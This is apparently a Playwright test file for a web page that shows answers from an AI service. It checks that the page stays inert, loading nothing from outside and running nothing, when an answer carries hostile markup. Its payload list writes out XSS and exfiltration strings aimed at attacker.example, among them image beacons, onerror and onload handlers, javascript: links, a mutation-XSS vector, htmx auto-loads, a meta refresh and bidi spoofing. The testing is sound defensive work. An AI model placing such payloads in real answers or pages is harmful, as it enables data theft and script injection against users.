"""Whatever an answer holds, the page loads nothing from elsewhere, runs nothing and goes nowhere."""

from __future__ import annotations

from dataclasses import replace
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.pages.conftest import WITH_AND_WITHOUT_SCRIPT, OpenPage, Seen, ask_and_wait
from tests.pages.fake_front_door import ANSWER, FakeService

PAYLOADS = {
    "picture": "![x](https://attacker.example/p.png?q=SECRET)",
    "reference picture": "![x][1]\n\n[1]: https://attacker.example/p.png",
    "HTML picture": "<img src=https://attacker.example/p.png onerror=document.title='pwned'>",
    "svg": "<svg/onload=document.title='pwned'>",
    "style": "<style>body{background:url(https://attacker.example/c)}</style>",
    "inline style": "<p style=\"background:url(https://attacker.example/c)\">x</p>",
    "frame": "<iframe src=https://attacker.example></iframe><object data=https://attacker.example></object>",
    "prefetch": "<link rel=prefetch href=https://attacker.example/l>",
    "refresh": "<meta http-equiv=refresh content='0;url=//attacker.example'>",
    "script link": "[press](javascript:document.title='pwned')",
    "data link": "[press](data:text/html,<script>alert(1)</script>)",
    "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=document.title='pwned'>",
    "closed script": "</script><script>document.title='pwned'</script>",
    "htmx": "<a hx-get=https://attacker.example hx-trigger=load>x</a><div data-hx-get=//attacker.example></div>",
    "bidi": "safe \u202e txt.exe \u2066 \U000e0041\U000e0042",
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
@WITH_AND_WITHOUT_SCRIPT
def test_a_hostile_answer_loads_runs_and_opens_nothing(reuse_page: OpenPage, service: FakeService, seen: Seen,
                                                       payload: str, script: bool) -> None:
    service.reply = replace(ANSWER, answer=f"{payload}\n\nThe end of it.")
    page = reuse_page(script=script)
    ask_and_wait(page, f"{payload} why iron?")
    expect(page.locator("#turn .answer")).to_contain_text("The end of it.")
    own = urlsplit(page.url).netloc
    assert {urlsplit(request.url).netloc for request in seen.requests} == {own}
    for live in ("main :is(img, svg, script, style, iframe, object, link, meta, math)",
                 "#turn :is([onerror], [onload], [style], [hx-get], [data-hx-get])"):
        assert page.locator(live).count() == 0
    addresses = [link.get_attribute("href") or "" for link in page.locator("#turn a[href]").all()]
    assert all(one.startswith(("https://", "http://", "/", "#")) for one in addresses)
    assert "pwned" not in page.title()
